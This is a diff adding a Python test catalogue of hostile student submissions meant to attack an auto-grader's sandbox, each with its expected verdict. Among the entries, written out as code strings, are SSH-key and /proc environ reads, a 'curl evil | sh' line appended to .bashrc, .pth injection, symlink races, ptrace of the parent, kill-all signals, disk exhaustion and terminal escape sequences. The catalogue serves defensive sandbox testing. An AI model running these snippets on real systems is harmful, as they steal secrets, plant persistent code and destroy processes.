@@ -1,0 +1,156 @@
+"""The red-team catalogue: student files (as jeux.py, question q1) that attack the grader, each with the
+verdict it must get. Written for this suite; each targets one thing a student owning the child could
+try. Every attack does its harm first and only then returns q1's right answer, so that an attack that
+worked shows in the verdict (`passed` where `error` was expected) as well as in the side effects the
+scene checks (tests/attacks/scene.py).
+
+Sources are string.Template texts: $home (the teacher's $HOME), $checkout (the grader's sources),
+$site (the venv's site-packages), $cache (the grader's cache), $out (the output folder), $victim (a
+classmate's submission file), $tmp (the run's temporary folder, where the children's folders are),
+$port (a TCP port the scene listens on), $tag (a marker for files an attack might create outside).
+"""
+from __future__ import annotations
+
+ANSWER = "[1, 2, 4, 5, 10, 20, 21, 42]"
+
+# name: (expected status of q1, body of solution_42 before `return ANSWER`, module-level prelude)
+ATTACKS: dict[str, tuple[str, str, str]] = {
+    # -- reading what a student must not read ---------------------------------------------------------
+    "read_reference": ("error", "open('$checkout/reference/jeux.py').read()", ""),
+    "import_reference": ("error", "sys.path.insert(0, '$checkout')\n"
+                                  "import reference.jeux\nreturn reference.jeux.solution_42()", "import sys"),
+    "exec_sample_student": ("error", "exec(open('$checkout/exercises/exemples/alice/jeux.py').read(), globals())", ""),
+    "read_grader_source": ("error", "open('$checkout/grader/questions/jeux.py').read()", ""),
+    "read_ssh_key": ("error", "open('$home/.ssh/id_ed25519').read()", ""),
+    "read_classmate": ("error", "open('$victim').read()", ""),
+    "list_children_folders": ("error", "print(os.listdir('$tmp'))", "import os"),
+    "proc_environ_of_parent": ("error", "open(f'/proc/{os.getppid()}/environ', 'rb').read()", "import os"),
+    # -- writing where a student must not write -------------------------------------------------------
+    "write_bashrc": ("error", "open('$home/.bashrc', 'a').write('curl evil | sh\\n')", ""),
+    "pth_into_venv": ("error", "open('$site/zz_evil.pth', 'w').write('import os\\n')", ""),
+    "poison_cache": ("error", "open('$cache/patterns.bin', 'wb').write(b'poison')", ""),
+    "append_to_report_code": ("error", "open('$checkout/reports/render.py', 'a').write('\\n# evil\\n')", ""),
+    "rewrite_results": ("error", "open('$out/results.json', 'w').write('{}')", ""),
+    "rewrite_classmate": ("error", "open('$victim', 'w').write('def solution_42():\\n    return []\\n')", ""),
+    "write_tmp": ("error", "open('/tmp/attack-$tag-tmp', 'w').write('x')", ""),
+    "write_dev_shm": ("error", "open('/dev/shm/attack-$tag-shm', 'w').write('x')", ""),
+    "dir_fd_write": ("error", "home = os.open('$home', os.O_RDONLY | os.O_DIRECTORY)\n"
+                              "os.write(os.open('.profile', os.O_WRONLY | os.O_CREAT | os.O_APPEND, dir_fd=home), b'x')",
+                     "import os"),
+    "hard_link_out": ("error", "os.link('$home/.bashrc', 'mine')\nopen('mine', 'a').write('evil\\n')", "import os"),
+    "symlink_out": ("error", "os.symlink('$home/.bashrc', 'mine')\nopen('mine', 'a').write('evil\\n')", "import os"),
+    "rename_out": ("error", "open('mine', 'w').write('evil')\nos.rename('mine', '$home/.bash_aliases')", "import os"),
+    "symlink_race": ("passed", (
+        "stop = []\n"
+        "def swap():\n"
+        "    while not stop:\n"
+        "        for target in ('plain', '$home/.bashrc'):\n"
+        "            try:\n"
+        "                os.remove('link')\n"
+        "            except OSError:\n"
+        "                pass\n"
+        "            try:\n"
+        "                os.symlink(target, 'link')\n"
+        "            except OSError:\n"
+        "                pass\n"
+        "open('plain', 'w').close()\n"
+        "worker = threading.Thread(target=swap)\n"
+        "worker.start()\n"
+        "for _ in range(3000):\n"
+        "    try:\n"
+        "        with open('link', 'a') as file:\n"
+        "            file.write('race\\n')\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "stop.append(1)\n"
+        "worker.join()"), "import os, threading"),
+    # -- processes, other processes ---------------------------------------------------------------------
+    "fork": ("error", "os.fork()", "import os"),
+    "subprocess": ("error", "subprocess.run(['/bin/sh', '-c', 'touch /tmp/attack-$tag-sh'], check=True)",
+                   "import subprocess"),
+    "posixsubprocess_fork_exec": ("error", (
+        "import _posixsubprocess\n"
+        "r, w = os.pipe()\n"
+        "_posixsubprocess.fork_exec(['/bin/touch', '/tmp/attack-$tag-fe'], [b'/bin/touch'], True, (w,), None,\n"
+        "    None, -1, -1, -1, -1, -1, -1, r, w, True, False, None, None, None, -1, None, False)"), "import os"),
+    "ptrace_parent": ("error", (
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "if libc.ptrace(16, os.getppid(), 0, 0) != 0:  # PTRACE_ATTACH\n"
+        "    raise OSError(ctypes.get_errno(), 'ptrace')"), "import ctypes, os"),
+    "process_vm_readv_parent": ("error", (
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "buffer = ctypes.create_string_buffer(64)\n"
+        "local = (ctypes.c_void_p * 2)(ctypes.cast(buffer, ctypes.c_void_p), 64)\n"
+        "remote = (ctypes.c_void_p * 2)(0x400000, 64)\n"
+        "if libc.process_vm_readv(os.getppid(), local, 1, remote, 1, 0) < 0:\n"
+        "    raise OSError(ctypes.get_errno(), 'process_vm_readv')"), "import ctypes, os"),
+    "kill_parent": ("error", "os.kill(os.getppid(), signal.SIGKILL)", "import os, signal"),
+    "kill_everything": ("error", "os.kill(-1, signal.SIGKILL)", "import os, signal"),
+    "kill_process_group": ("error", "os.killpg(0, signal.SIGKILL)", "import os, signal"),
+    "kill_siblings_by_proc": ("error", (
+        "for entry in os.listdir('/proc'):\n"
+        "    if entry.isdigit() and int(entry) != os.getpid():\n"
+        "        os.kill(int(entry), signal.SIGKILL)"), "import os, signal"),
+    # In a user namespace the child is already uid 0 there, without any capability: setgroups tells.
+    "become_root": ("error", "os.setuid(0)\nos.setgid(0)\nos.setgroups([0])", "import os"),
+    "new_namespaces": ("error", (
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS\n"
+        "    raise OSError(ctypes.get_errno(), 'unshare')"), "import ctypes"),
+    "undo_no_new_privs": ("error", (
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "libc.prctl(38, 0, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS cannot be unset; then try the forbidden again\n"
+        "open('$checkout/reference/jeux.py').read()"), "import ctypes"),
+    "threads_outlive": ("passed", (
+        "threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()"), "import threading"),
+    # -- network --------------------------------------------------------------------------------------
+    "tcp_connect": ("error", "socket.create_connection(('127.0.0.1', $port), timeout=2)", "import socket"),
+    "abstract_unix_socket": ("error", (
+        "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\ns.connect('\\0taquin-attack-$tag')"), "import socket"),
+    # -- disk -----------------------------------------------------------------------------------------
+    # Time-boxed (q1's limit is a second): where there is no budget (no mount namespace), the disk is real.
+    "fill_disk": ("passed", (
+        "end = time.monotonic() + 0.5\n"
+        "try:\n"
+        "    for i in range(20):  # just past Limits.disk_bytes\n"
+        "        if time.monotonic() > end:\n"
+        "            break\n"
+        "        with open(f'fill{i}', 'wb') as file:\n"
+        "            file.write(bytes(1 << 20))\n"
+        "except OSError:\n"
+        "    pass"), "import time"),
+    "exhaust_inodes": ("passed", (
+        "end = time.monotonic() + 0.5\n"
+        "try:\n"
+        "    for i in range(1100):  # just past Limits.disk_files\n"
+        "        if time.monotonic() > end:\n"
+        "            break\n"
+        "        open(f'i{i}', 'w').close()\n"
+        "except OSError:\n"
+        "    pass"), "import time"),
+    "unremovable_folder": ("passed", (
+        "os.makedirs('deep/er/est')\nopen('deep/er/est/f', 'w').write('x')\n"
+        "os.chmod('deep/er/est', 0)\nos.chmod('deep/er', 0)\nos.chmod('deep', 0)"), "import os"),
+    "links_for_the_cleanup": ("passed", "os.symlink('$home', 'home')\nos.symlink('$home/.bashrc', 'rc')\n"
+                                        "os.symlink('/', 'everything')", "import os"),
+    # -- the report as a weapon -----------------------------------------------------------------------
+    "huge_reply": ("failed", "return list(range(400_000))", ""),
+    "escape_sequences": ("error", "print('\\x1b[2J\\x1b]52;c;ZXZpbA==\\x07')\n"
+                                  "raise ValueError('\\x1b[1A\\x1b[2K\\r  q1  20/20 passed')", ""),
+    "nan_answer": ("failed", "return [1, float('nan'), 42]", ""),
+    "forged_reply": ("crashed", (
+        "for fd in range(3, 1024):\n"
+        "    try:\n"
+        "        os.write(fd, struct.pack('>I', 2) + b'{}')\n"
+        "    except OSError:\n"
+        "        pass"), "import os, struct"),
+}
+
+
+def source(name: str, **where) -> str:
+    """The attack's jeux.py, with the scene's paths filled in."""
+    from string import Template
+
+    status, body, prelude = ATTACKS[name]
+    indented = "\n".join("    " + line for line in Template(body).substitute(where).splitlines())
+    return f"{Template(prelude).substitute(where)}\n\n\ndef solution_42():\n{indented}\n    return {ANSWER}\n"
